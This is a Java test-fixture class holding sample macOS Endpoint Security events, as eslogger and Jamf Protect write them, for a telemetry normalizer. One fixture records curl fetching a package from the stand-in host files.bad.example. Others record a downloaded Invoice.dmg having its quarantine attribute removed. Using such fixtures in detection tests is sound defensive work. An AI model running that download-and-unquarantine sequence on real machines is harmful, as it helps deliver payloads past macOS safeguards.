package io.clicktrail.normalizer.macos;

/** Messages of Endpoint Security as eslogger and Jamf Protect write them. */
public final class EndpointSecurityFixtures {

    private static final String FIREFOX = """
            {"executable":{"path":"/Applications/Firefox.app/Contents/MacOS/firefox","path_truncated":false},"ppid":1,\
            "audit_token":{"asid":100001,"auid":501,"euid":501,"egid":20,"ruid":501,"rgid":20,"pid":913,\
            "pidversion":2101},\
            "parent_audit_token":{"asid":100001,"auid":501,"euid":0,"egid":0,"ruid":0,"rgid":0,"pid":1,"pidversion":1},\
            "responsible_audit_token":{"asid":100001,"auid":501,"euid":501,"egid":20,"ruid":501,"rgid":20,"pid":913,\
            "pidversion":2101},\
            "signing_id":"org.mozilla.firefox","team_id":"43AQ936H96","cdhash":"00AA",\
            "start_time":"2026-03-02T09:00:00.000000Z"}""";

    /** A shell in Terminal has forked and starts curl. */
    public static final String EXEC = """
            {"schema_version":1,"mach_time":881231,"event_type":9,"time":"2026-03-02T10:00:05.701234567Z","version":7,\
            "seq_num":4,"global_seq_num":901,\
            "thread":{"thread_id":77},"action_type":1,"process":{"executable":{"path":"/bin/zsh"},"ppid":700,\
            "audit_token":{"asid":100001,"auid":501,"euid":501,"egid":20,"ruid":501,"rgid":20,"pid":951,\
            "pidversion":2201},\
            "parent_audit_token":{"asid":100001,"auid":501,"euid":501,"egid":20,"ruid":501,"rgid":20,"pid":700,\
            "pidversion":1999},\
            "signing_id":"com.apple.zsh","team_id":null},\
            "event":{"exec":{"script":null,"cwd":{"path":"/Users/ada"},"last_fd":2,\
            "args":["curl","-o","/Users/ada/Downloads/my report.pkg","https://files.bad.example/a"],"env":["USER=ada"],\
            "target":{"executable":{"path":"/usr/bin/curl"},"ppid":700,\
            "audit_token":{"asid":100001,"auid":501,"euid":501,"egid":20,"ruid":501,"rgid":20,"pid":951,\
            "pidversion":2202},\
            "parent_audit_token":{"asid":100001,"auid":501,"euid":501,"egid":20,"ruid":501,"rgid":20,"pid":700,\
            "pidversion":1999},\
            "responsible_audit_token":{"asid":100001,"auid":501,"euid":501,"egid":20,"ruid":501,"rgid":20,"pid":650,\
            "pidversion":1800},\
            "signing_id":"com.apple.curl","team_id":""}}}}""";

    public static final String CREATE = message(
            902,
            "\"create\":{\"destination_type\":1,\"destination\":{\"new_path\":{\"dir\":{\"path\":\"/Users/a"
                    + "da/Downloads\"},\"filename\":\"Invoice.dmg.part\",\"mode\":33188}}}");
    public static final String RENAME = message(
            903,
            "\"rename\":{\"destination_type\":1,\"source\":{\"path\":\"/Users/ada/Downloads/Invoice.dmg.par"
                    + "t\"},\"destination\":{\"new_path\":{\"dir\":{\"path\":\"/Users/ada/Downloads\"},"
                    + "\"filename\":\"Invoice.dmg\"}}}");
    public static final String CLOSE =
            message(904, "\"close\":{\"modified\":true,\"target\":{\"path\":\"/Users/ada/Downloads/Invoice.dmg\"}}");
    public static final String SET_QUARANTINE = message(
            905,
            "\"setextattr\":{\"extattr\":\"com.apple.quarantine\","
                    + "\"target\":{\"path\":\"/Users/ada/Downloads/Invoice.dmg\"}}");
    public static final String DELETE_QUARANTINE = message(
            906,
            "\"deleteextattr\":{\"extattr\":\"com.apple.quarantine\","
                    + "\"target\":{\"path\":\"/Users/ada/Downloads/Invoice.dmg\"}}");

    private EndpointSecurityFixtures() {}

    /** What Firefox does, as eslogger writes it. */
    public static String message(int sequence, String event) {
        return """
                {"event":{%s},"process":%s,"time":"2026-03-02T10:00:05.801234567Z","mach_time":881240,\
                "schema_version":1,"version":7,"event_type":13,"action_type":1,"global_seq_num":%d}\
                """.formatted(event, FIREFOX, sequence);
    }

    /** The same behind a syslog header, which names the host that eslogger does not. */
    public static String shipped(String message) {
        return "<13>1 2026-03-02T10:00:06Z mac-3.corp.example eslogger 99 - - " + message;
    }

    /** Tokens as arrays, as message version 10 writes them. */
    public static String withArrays(String message) {
        return message.replaceAll(
                "\\{\"asid\":(\\d+),\"auid\":(\\d+),\"euid\":(\\d+),\"egid\":(\\d+),\"ruid\":(\\d+),"
                        + "\"rgid\":(\\d+),\"pid\":(\\d+),\"pidversion\":(\\d+)}",
                "[$2,$3,$4,$5,$6,$7,$1,$8]");
    }

    /** As Jamf Protect's telemetry writes it. */
    public static String jamf(String message) {
        return message.replaceAll(
                        "\"pid\":(\\d+),\"pidversion\":(\\d+)}", "\"pid\":$1,\"pidversion\":$2,\"uuid\":\"U-$1-$2\"}")
                .replaceAll("\"schema_version\":1,?", "")
                .replaceAll("\"mach_time\":\\d+,?", "")
                .replace("global_seq_num", "glob_seq_num")
                .replaceFirst(
                        "\\{",
                        "{\"metadata\":{\"vendor\":\"Jamf\",\"product\":\"Jamf Protect\",\"schemaVersion\":\"1.0\"},"
                                + "\"host\":{\"hostname\":\"mac-3.corp.example\",\"ips\":[\"10.1.2.33\","
                                + "\"fe80::1\",\"127.0.0.1\"],\"serial\":\"C02X\","
                                + "\"provisioningUDID\":\"P-1\",\"os\":\"15.3\"},");
    }
}
